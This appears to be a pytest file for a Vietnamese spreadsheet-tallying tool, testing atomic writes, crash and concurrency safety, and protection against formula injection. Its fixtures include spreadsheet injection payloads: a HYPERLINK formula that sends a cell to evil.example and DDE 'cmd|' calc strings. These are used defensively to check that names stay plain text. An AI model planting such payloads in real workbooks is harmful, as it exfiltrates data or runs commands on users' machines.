"""Outputs are never lost or half-written (issue 8).

- written to a temporary file in the target folder, then moved into place in one step;
- an existing file is replaced only with --force;
- a run killed (SIGKILL) while writing leaves the old file or nothing, never a partial workbook;
- two runs writing the same output at once: one wins, the other reports it, the file is whole;
- text from the inputs cannot become a formula in any workbook we write;
- inputs are never modified, and nothing is written into an input folder unless named.
"""

from __future__ import annotations

import csv
import hashlib
import io
import random
import shutil
import signal
import subprocess
import sys
import textwrap
import time
import zipfile
from pathlib import Path

import openpyxl
import pytest

from danhgia.write.safe import OutputExists, atomic_path, write_bytes

HOSTILE = Path(__file__).resolve().parent / "fixtures" / "hostile"
NAMES = {
    "name-equals.xlsx": '=HYPERLINK("http://evil.example/?x="&B5,"Nguyễn Văn A")',
    "name-plus.xlsx": "+84 912 345 678 Nguyễn Văn B",
    "name-minus.xlsx": "-2+3+cmd|' /C calc'!A0",
    "name-at.xlsx": "@SUM(1+1)*cmd|' /C calc'!A0",
}


def _tree(root: Path) -> dict[str, str]:
    return {str(p.relative_to(root)): hashlib.sha256(p.read_bytes()).hexdigest()
            for p in sorted(root.rglob("*")) if p.is_file()}


def _workbook_bytes(marker: str, cells: int = 10) -> bytes:
    import xlsxwriter

    buf = io.BytesIO()
    wb = xlsxwriter.Workbook(buf, {"in_memory": True})
    ws = wb.add_worksheet()
    ws.write_string(0, 0, marker)
    for i in range(1, cells):
        ws.write_number(i, 0, i)
    wb.close()
    return buf.getvalue()


def _marker(path: Path) -> str:
    """A1 of a workbook that must be whole (zip CRCs checked, openpyxl can open it)."""
    with zipfile.ZipFile(path) as z:
        assert z.testzip() is None
    return openpyxl.load_workbook(path, read_only=True).worksheets[0]["A1"].value


# --- safe_write, in-process ------------------------------------------------------------------


def test_temporary_file_is_in_the_target_folder_and_renamed(tmp_path):
    target = tmp_path / "out" / "tong-hop.xlsx"
    with atomic_path(target) as tmp:
        assert tmp.parent == target.parent and tmp.name.startswith(".danhgia-tmp-")
        assert tmp.suffix == ".xlsx"
        tmp.write_bytes(_workbook_bytes("NEW"))
        assert not target.exists()                   # nothing at the target until the end
    assert _marker(target) == "NEW"
    assert [p.name for p in target.parent.iterdir()] == ["tong-hop.xlsx"]


def test_existing_file_is_replaced_only_with_force(tmp_path):
    target = tmp_path / "a.xlsx"
    target.write_bytes(_workbook_bytes("OLD"))
    with pytest.raises(OutputExists):
        write_bytes(target, _workbook_bytes("NEW"))
    assert _marker(target) == "OLD"
    write_bytes(target, _workbook_bytes("NEW"), force=True)
    assert _marker(target) == "NEW"
    assert [p.name for p in tmp_path.iterdir()] == ["a.xlsx"]


def test_a_failure_while_writing_leaves_nothing(tmp_path):
    target = tmp_path / "a.xlsx"
    with pytest.raises(RuntimeError):
        with atomic_path(target) as tmp:
            tmp.write_bytes(b"PK half")
            raise RuntimeError("boom")
    assert list(tmp_path.iterdir()) == []
    target.write_bytes(_workbook_bytes("OLD"))
    with pytest.raises(RuntimeError):
        with atomic_path(target, force=True) as tmp:
            tmp.write_bytes(b"PK half")
            raise RuntimeError("boom")
    assert _marker(target) == "OLD" and len(list(tmp_path.iterdir())) == 1


# --- killed and concurrent runs, in real processes ---------------------------------------------

_WRITER = textwrap.dedent("""
    import sys, time, pathlib
    import xlsxwriter
    from danhgia.write.safe import OutputExists, atomic_path
    target, marker, force, ready, go, cells = sys.argv[1:7]
    try:
        with atomic_path(target, force=force == "1") as tmp:
            wb = xlsxwriter.Workbook(str(tmp))
            ws = wb.add_worksheet()
            ws.write_string(0, 0, marker)
            for i in range(1, int(cells)):
                ws.write_number(i, 0, i)
                ws.write_string(i, 1, "Nguyễn Văn A " * 3)
            wb.close()
            if ready != "-":
                pathlib.Path(ready).touch()
            while go != "-" and not pathlib.Path(go).exists():
                time.sleep(0.005)
    except OutputExists:
        print("EXISTS")
        sys.exit(5)
    print("OK")
""")


def _writer(tmp_path: Path, target: Path, marker: str, force: bool, ready="-", go="-", cells=20000):
    script = tmp_path / "writer.py"
    if not script.exists():
        script.write_text(_WRITER, "utf-8")
    return subprocess.Popen([sys.executable, str(script), str(target), marker, "1" if force else "0",
                             str(ready), str(go), str(cells)], stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                            text=True)


def test_sigkill_while_writing_leaves_the_old_file_or_nothing(tmp_path):
    # killed once the temporary file holds a half-written workbook: the target is untouched
    for force, old in ((False, None), (True, "OLD")):
        target = tmp_path / f"out-{force}.xlsx"
        if old:
            target.write_bytes(_workbook_bytes(old))
        ready = tmp_path / f"ready-{force}"
        proc = _writer(tmp_path, target, "NEW", force, ready=ready, go=tmp_path / "never")
        deadline = time.monotonic() + 30
        while not ready.exists() and time.monotonic() < deadline:
            time.sleep(0.01)
        assert ready.exists()
        proc.send_signal(signal.SIGKILL)
        proc.wait()
        if old:
            assert _marker(target) == old
        else:
            assert not target.exists()


def test_sigkill_at_random_moments_never_leaves_a_partial_workbook(tmp_path):
    rng = random.Random(8)
    target = tmp_path / "out.xlsx"
    t0 = time.monotonic()                       # how long one whole run takes here
    _writer(tmp_path, tmp_path / "timing.xlsx", "T", True, cells=30000).wait()
    whole = time.monotonic() - t0
    (tmp_path / "timing.xlsx").unlink()
    target.write_bytes(_workbook_bytes("OLD"))
    seen = []
    for i in range(8):
        proc = _writer(tmp_path, target, f"NEW{i}", True, cells=30000)
        time.sleep(whole * rng.uniform(0.3, 1.1))   # while writing, around the commit, or after
        proc.send_signal(signal.SIGKILL)
        proc.wait()
        got = _marker(target)                                   # always a whole workbook
        assert got == "OLD" or got.startswith("NEW")
        seen.append(got)
    assert "OLD" in seen                                        # some kills did land mid-write
    # stray temporary files are hidden (dot-files), never taken for inputs or outputs
    for p in tmp_path.iterdir():
        assert p.name in ("out.xlsx", "writer.py") or p.name.startswith(".danhgia-tmp-")


@pytest.mark.parametrize("force", [False, True])
def test_two_runs_writing_the_same_output_at_once(tmp_path, force):
    target = tmp_path / "tong-hop.xlsx"
    go = tmp_path / "go"
    procs = []
    for k in (1, 2):
        procs.append(_writer(tmp_path, target, f"RUN{k}", force, ready=tmp_path / f"ready{k}", go=go))
    deadline = time.monotonic() + 30
    while not all((tmp_path / f"ready{k}").exists() for k in (1, 2)) and time.monotonic() < deadline:
        time.sleep(0.01)
    go.touch()                                   # both hold a finished temporary file: race to commit
    outs = [p.communicate(timeout=30) for p in procs]
    codes = [p.returncode for p in procs]
    if force:
        assert codes == [0, 0]
        assert _marker(target) in ("RUN1", "RUN2")
    else:
        assert sorted(codes) == [0, 5], outs     # one wins, the other reports OutputExists
        winner = "RUN1" if codes[0] == 0 else "RUN2"
        assert _marker(target) == winner
    assert sorted(p.name for p in tmp_path.iterdir() if p.suffix == ".xlsx") == ["tong-hop.xlsx"]


# --- the commands ------------------------------------------------------------------------------


def _names_folder(tmp_path: Path) -> Path:
    root = tmp_path / "in"
    root.mkdir()
    for name in (*NAMES, "good.xlsx", "name-nfd.xlsx", "name-tcvn3.xlsx"):
        shutil.copy(HOSTILE / name, root / name)
    return root


def _cli(*args: str, cwd: Path) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "danhgia", *map(str, args)], cwd=cwd, capture_output=True,
                          text=True, timeout=120)


def test_tally_refuses_to_overwrite_without_force_and_never_touches_inputs(tmp_path):
    root = _names_folder(tmp_path)
    before = _tree(root)
    out = tmp_path / "ket-qua" / "tong-hop.xlsx"
    first = _cli("tally", root, "--month", "2026-10", "--out", out, cwd=tmp_path)
    assert first.returncode in (0, 1), first.stderr
    made = out.read_bytes()
    again = _cli("tally", root, "--month", "2026-10", "--out", out, cwd=tmp_path)
    assert again.returncode == 2 and "--force" in again.stderr and "Traceback" not in again.stderr
    assert out.read_bytes() == made
    forced = _cli("tally", root, "--month", "2026-10", "--out", out, "--force", cwd=tmp_path)
    assert forced.returncode in (0, 1)
    assert zipfile.ZipFile(out).testzip() is None
    assert _tree(root) == before                                  # inputs untouched, nothing added
    assert sorted(p.name for p in out.parent.iterdir()) == ["tong-hop.xlsx"]


def test_two_tally_runs_at_once_one_wins_the_other_reports(tmp_path):
    root = _names_folder(tmp_path)
    out = tmp_path / "tong-hop.xlsx"
    cmd = [sys.executable, "-m", "danhgia", "tally", str(root), "--month", "2026-10", "--out", str(out)]
    procs = [subprocess.Popen(cmd, cwd=tmp_path, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
             for _ in range(2)]
    results = [(p.wait(timeout=120), p.stderr.read()) for p in procs]
    codes = sorted(c for c, _ in results)
    assert codes[0] in (0, 1) and codes[1] == 2, results
    assert any("--force" in err for c, err in results if c == 2)
    assert not any("Traceback" in err for _c, err in results)
    wb = openpyxl.load_workbook(out)                             # whole
    assert "Chi tiết" in wb.sheetnames


def test_validate_and_template_do_not_overwrite_without_force(tmp_path):
    root = _names_folder(tmp_path)
    ann = tmp_path / "danh-dau"
    first = _cli("validate", root, "--month", "2026-11", "--annotate", ann, cwd=tmp_path)
    assert first.returncode == 1
    copies = _tree(ann)
    assert copies
    again = _cli("validate", root, "--month", "2026-11", "--annotate", ann, cwd=tmp_path)
    assert again.returncode == 2 and "--force" in again.stderr
    assert _tree(ann) == copies
    tpl = tmp_path / "mau"
    assert _cli("template", "--out", tpl, cwd=tmp_path).returncode == 0
    made = _tree(tpl)
    second = _cli("template", "--out", tpl, cwd=tmp_path)
    assert second.returncode == 2 and "Traceback" not in second.stderr
    assert _tree(tpl) == made


# --- text can never become a formula ---------------------------------------------------------


def _assert_text_cells(path: Path, must_find: set[str]) -> None:
    """Every cell holding one of the hostile names (or text containing one) is a string cell;
    no formula we wrote carries the hostile text."""
    found: set[str] = set()
    wb = openpyxl.load_workbook(path)
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                v = c.value
                if not isinstance(v, str):
                    continue
                if c.data_type == "f":
                    assert "cmd|" not in v and "evil.example" not in v and "+84 912" not in v, (ws.title, c.coordinate, v)
                    continue
                for name in NAMES.values():
                    if name in v:
                        assert c.data_type in ("s", "inlineStr"), (ws.title, c.coordinate, c.data_type)
                        found.add(name)
    assert must_find <= found, (path.name, must_find - found)


def test_formula_like_names_stay_text_in_every_workbook_we_write(tmp_path):
    root = _names_folder(tmp_path)
    names = set(NAMES.values())
    tally = tmp_path / "tong-hop.xlsx"
    res = _cli("tally", root, "--month", "2026-10", "--out", tally, cwd=tmp_path)
    assert res.returncode in (0, 1), res.stderr
    _assert_text_cells(tally, names)
    wb = openpyxl.load_workbook(tally)
    for sheet in ("Chi tiết", "Công khai"):
        texts = {c.value for row in wb[sheet].iter_rows() for c in row if isinstance(c.value, str)}
        assert names <= texts, sheet
    annual = tmp_path / "ca-nam.xlsx"
    res = _cli("annual", tally, "--year", "2026", "--out", annual, cwd=tmp_path)
    assert res.returncode in (0, 1), res.stderr
    _assert_text_cells(annual, names)
    # annotated copies (every file has a finding: the month is wrong)
    ann = tmp_path / "danh-dau"
    res = _cli("validate", root, "--month", "2026-11", "--annotate", ann, cwd=tmp_path)
    assert res.returncode == 1
    copies = [p for p in ann.rglob("*.xlsx")]
    assert len(copies) == len(list(root.iterdir()))
    for p in copies:
        for fname, name in NAMES.items():
            if p.name == fname:
                _assert_text_cells(p, {name})
    # the CSV report: no field a spreadsheet would take for a formula
    res = _cli("validate", root, "--month", "2026-11", "--format", "csv", cwd=tmp_path)
    rows = list(csv.reader(io.StringIO(res.stdout)))
    assert len(rows) > 1
    for row in rows[1:]:
        for field in row:
            assert not field.startswith(("=", "+", "-", "@")), field


def test_stray_temporary_files_are_not_read_as_inputs(tmp_path):
    root = _names_folder(tmp_path)
    (root / ".danhgia-tmp-abc123.xlsx").write_bytes(b"PK\x03\x04 half-written")
    res = _cli("validate", root, "--format", "json", cwd=tmp_path)
    assert ".danhgia-tmp" not in res.stdout
